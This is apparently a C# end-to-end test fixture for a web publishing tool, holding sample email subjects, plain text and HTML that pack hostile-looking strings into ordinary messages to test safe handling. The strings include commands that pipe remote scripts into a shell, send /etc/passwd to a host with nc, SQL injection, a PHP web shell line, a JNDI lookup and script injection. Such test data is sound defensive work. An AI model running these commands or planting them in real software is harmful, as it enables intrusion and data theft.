namespace WebPublisher.EndToEnd.Tests.Browsers;

/// <summary>What people write to each other who speak of software: all of it harmless where it stands.</summary>
internal static class FreeText
{
    public const string Subject = "RE: <script> & union select -- ../../etc/passwd; drop table users?";

    public const string Plain =
        """
        Hi, run this on the server:
            sudo cat /etc/passwd | grep root && rm -rf /tmp/x; curl http://10.0.0.1/x.sh | bash
            SELECT name, password FROM users WHERE id = '1' OR '1'='1' UNION SELECT NULL, version() --
            <?php system($_GET['cmd']); ?>  ${jndi:ldap://x/y}  {{7*7}}  powershell -enc AAAA
            document.cookie; alert(1); eval(String.fromCharCode(88)); javascript:void(0)
        It's "fixed" in 1.2; see ..\\..\\windows\\system32 -- grüße
        """;

    public const string Html =
        """
        <html><head><style type="text/css">p { margin: 0; background: url(https://example.test/a.png) }</style></head><body style="font-family: 'Segoe UI', sans-serif">
        <div class="moz-signature"><p onclick="return false">SELECT * FROM users WHERE name = 'x' OR 1=1; -- <b>bold</b> &amp; <a href="https://example.test/?a=1&b=2">link</a></p>
        <img src="data:image/png;base64,iVBORw0KGgo=" alt="x"><pre>cat /etc/passwd | nc 10.0.0.1 80; $(id) `whoami` && wget http://x/y.sh -O- | sh</pre>
        <iframe src="about:blank"></iframe><script>alert(document.cookie)</script><!-- comment --><?xml version="1.0"?>
        <table border="0"><tr><td>Grüße, it's "done" (100%)</td></tr></table></div></body></html>
        """;

    /// <summary>A message with all its quotations: longer than what engines look into by themselves.</summary>
    public static readonly string LongHtml = string.Concat(Enumerable.Repeat(Html, 200));

    public static readonly IReadOnlyList<string> Searches = ["O'Neil", "union & select from", "\"quarterly figures\" or 'minutes'", "c:\\temp", "grüße 100%"];
}
